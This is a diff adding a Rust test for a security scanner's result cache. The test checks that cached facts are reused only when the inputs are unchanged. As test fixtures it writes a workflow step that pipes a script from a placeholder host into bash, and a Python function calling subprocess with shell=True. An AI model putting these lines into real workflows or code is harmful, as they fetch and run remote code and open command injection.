@@ -548,6 +548,128 @@ fn cache_reuses_unchanged_files_and_changes_no_output() {
     );
 }
 
+/// The result memo: a `facts` run whose inputs are all unchanged reads the
+/// linked facts back (and `--stats` says so), byte-identical to a run
+/// without the cache. Anything the facts are computed from misses it and
+/// gives the output of a run without the cache: one source file, the
+/// repository's scope configuration, a workflow, the `--scope` asked for;
+/// and a memo whose bytes were damaged is ignored.
+#[test]
+fn facts_memo_is_used_only_for_unchanged_inputs() {
+    let tmp = tempfile::tempdir().unwrap();
+    let root = tmp.path().join("repo");
+    copy_tree(&fixtures().join("verify_app"), &root);
+    copy_tree(
+        &fixtures().join("supply_chain/.github"),
+        &root.join(".github"),
+    );
+    let cache = tmp.path().join("cache");
+    // (stdout, whether the facts came from the memo)
+    let run = |extra: &[&str]| {
+        let json = bin()
+            .args(["facts", "--format", "json", "--cache-dir"])
+            .arg(&cache)
+            .arg(&root)
+            .args(extra)
+            .output()
+            .unwrap();
+        assert!(json.status.success(), "{json:?}");
+        let stats = bin()
+            .args(["facts", "--stats", "-o", "/dev/null", "--cache-dir"])
+            .arg(&cache)
+            .arg(&root)
+            .args(extra)
+            .output()
+            .unwrap();
+        let err = String::from_utf8_lossy(&stats.stderr).into_owned();
+        (
+            String::from_utf8_lossy(&json.stdout).into_owned(),
+            err.contains("facts read back from the result memo"),
+        )
+    };
+    let without = |extra: &[&str]| {
+        let out = bin()
+            .args(["facts", "--format", "json", "--no-cache"])
+            .arg(&root)
+            .args(extra)
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    };
+    let base = without(&[]);
+    assert!(base.contains("\"route\""), "{base}");
+    let (cold, _) = run(&[]);
+    assert_eq!(cold, base);
+    let (warm, memo) = run(&[]);
+    assert!(memo, "nothing changed: the facts are read back");
+    assert_eq!(warm, base);
+
+    // One source file changed.
+    let py = root.join("src/acme/hooks.py");
+    let mut text = std::fs::read_to_string(&py).unwrap();
+    text.push_str(
+        "\nimport subprocess\n\ndef memo_probe(cmd):\n    subprocess.run(cmd, shell=True)\n",
+    );
+    std::fs::write(&py, text).unwrap();
+    let (out, memo) = run(&[]);
+    assert!(out.contains("memo_probe"), "the changed file's new fact");
+    assert_eq!(out, without(&[]));
+    assert!(memo, "and read back from the memo the next time");
+
+    // The repository's configuration puts that file in another scope.
+    std::fs::write(
+        root.join(".threatscan.toml"),
+        "[scope]\nexample = [\"src/acme/hooks.py\"]\n",
+    )
+    .unwrap();
+    let (out, _) = run(&[]);
+    assert_eq!(out, without(&[]));
+    assert!(out.contains("\"example\""), "the new scope is in the facts");
+
+    // A workflow changed (its facts are not from a parsed source file).
+    let (before, _) = run(&[]);
+    let wf = root.join(".github/workflows/install.yml");
+    let mut text = std::fs::read_to_string(&wf).unwrap();
+    text.push_str("      - run: curl -s https://probe.example/x.sh | bash\n");
+    std::fs::write(&wf, text).unwrap();
+    let (out, _) = run(&[]);
+    assert_ne!(out, before, "the workflow's new step is in the facts");
+    assert_eq!(out, without(&[]));
+
+    // Another scope asked for: not the memo of the previous one.
+    let (all, _) = run(&[]);
+    let (prod, _) = run(&["--scope", "production"]);
+    assert_eq!(prod, without(&["--scope", "production"]));
+    assert_ne!(prod, all);
+    let (again, memo) = run(&[]);
+    assert_eq!(again, all);
+    assert!(memo);
+
+    // A damaged memo is ignored, then written again.
+    for e in std::fs::read_dir(cache.join("v1")).unwrap() {
+        let p = e.unwrap().path();
+        if p.extension().is_some_and(|x| x == "facts") {
+            let mut b = std::fs::read(&p).unwrap();
+            let n = b.len();
+            b[n - 10] ^= 0x20;
+            std::fs::write(&p, b).unwrap();
+        }
+    }
+    let json = bin()
+        .args(["facts", "--format", "json", "--stats", "--cache-dir"])
+        .arg(&cache)
+        .arg(&root)
+        .output()
+        .unwrap();
+    let err = String::from_utf8_lossy(&json.stderr);
+    assert!(!err.contains("result memo"), "{err}");
+    let out = String::from_utf8_lossy(&json.stdout);
+    assert!(out.contains("\"facts_from_memo\": false"), "{out}");
+    let (out, memo) = run(&[]);
+    assert_eq!(out, all);
+    assert!(memo);
+}
+
 /// A file whose stamp (size, inode, modification and change times) is the
 /// one its cache entry was made with is not read again; any change to it,
 /// even one of the same size with its modification time put back (what
